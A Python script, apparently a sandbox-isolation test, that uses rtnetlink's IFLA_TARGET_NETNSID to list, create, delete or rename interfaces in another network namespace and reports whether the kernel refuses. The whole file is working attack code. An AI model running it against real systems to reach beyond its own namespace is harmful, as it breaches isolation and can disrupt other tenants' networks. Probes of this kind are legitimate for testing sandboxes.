#!/usr/bin/env python3
"""Run INSIDE a sandbox: use rtnetlink's IFLA_TARGET_NETNSID to act on links in ANOTHER netns, named
only by its netnsid as seen from the caller's netns (ported from the research's nsid_attack.py).
A sandbox is only safe if every one of these is refused (EPERM, or EACCES from
rtnl_get_net_ns_capable for the paths that resolve the netnsid first).
usage: nsid_attack.py list NSID | create NSID IFNAME | delete NSID IFNAME | alias NSID IFNAME TEXT
Prints one line: "<cmd> nsid=N -> OK" or "-> EPERM (...)"; exit status 0 only when the kernel said OK."""
import errno
import os
import socket
import struct
import sys

RTM_NEWLINK, RTM_DELLINK, RTM_GETLINK = 16, 17, 18
NLM_F_REQUEST, NLM_F_ACK, NLM_F_DUMP, NLM_F_EXCL, NLM_F_CREATE = 1, 4, 0x300, 0x200, 0x400
NLMSG_ERROR, NLMSG_DONE = 2, 3
IFLA_IFNAME, IFLA_LINKINFO, IFLA_IFALIAS, IFLA_TARGET_NETNSID = 3, 18, 20, 46
IFLA_INFO_KIND = 1


def attr(t, data):
    n = 4 + len(data)
    return struct.pack("HH", n, t) + data + b"\0" * ((4 - n % 4) % 4)


def msg(t, flags, body):
    return struct.pack("IHHII", 16 + len(body), t, flags, 1, 0) + body


def report(cmd, nsid, err):
    name = "OK" if err == 0 else f"{errno.errorcode.get(-err, -err)} ({os.strerror(-err)})"
    print(f"{cmd} nsid={nsid} -> {name}")
    sys.exit(0 if err == 0 else 1)


cmd, nsid = sys.argv[1], int(sys.argv[2])
s = socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0)
s.bind((0, 0))
ifi = struct.pack("BxHiII", 0, 0, 0, 0, 0)
target = attr(IFLA_TARGET_NETNSID, struct.pack("i", nsid))
if cmd == "list":
    s.send(msg(RTM_GETLINK, NLM_F_REQUEST | NLM_F_DUMP, ifi + target))
    names = []
    while True:
        data = s.recv(65536)
        while data:
            n, t = struct.unpack("IH", data[:6])
            if t == NLMSG_DONE:  # a dump reports its error in NLMSG_DONE's payload
                err = struct.unpack("i", data[16:20])[0] if n >= 20 else 0
                print("links:", names)
                report(cmd, nsid, err)
            if t == NLMSG_ERROR:
                report(cmd, nsid, struct.unpack("i", data[16:20])[0])
            b = data[32:n]
            while len(b) >= 4:
                al, at = struct.unpack("HH", b[:4])
                if al < 4:
                    break
                if at == IFLA_IFNAME:
                    names.append(b[4:al].rstrip(b"\0").decode())
                b = b[(al + 3) & ~3:]
            data = data[(n + 3) & ~3:]
name = attr(IFLA_IFNAME, sys.argv[3].encode() + b"\0")
if cmd == "create":
    body = ifi + target + name + attr(IFLA_LINKINFO, attr(IFLA_INFO_KIND, b"bridge\0"))
    s.send(msg(RTM_NEWLINK, NLM_F_REQUEST | NLM_F_ACK | NLM_F_CREATE | NLM_F_EXCL, body))
elif cmd == "delete":
    s.send(msg(RTM_DELLINK, NLM_F_REQUEST | NLM_F_ACK, ifi + target + name))
elif cmd == "alias":
    s.send(msg(RTM_NEWLINK, NLM_F_REQUEST | NLM_F_ACK, ifi + target + name + attr(IFLA_IFALIAS, sys.argv[4].encode())))
else:
    sys.exit(f"unknown command {cmd}")
report(cmd, nsid, struct.unpack("i", s.recv(65536)[16:20])[0])
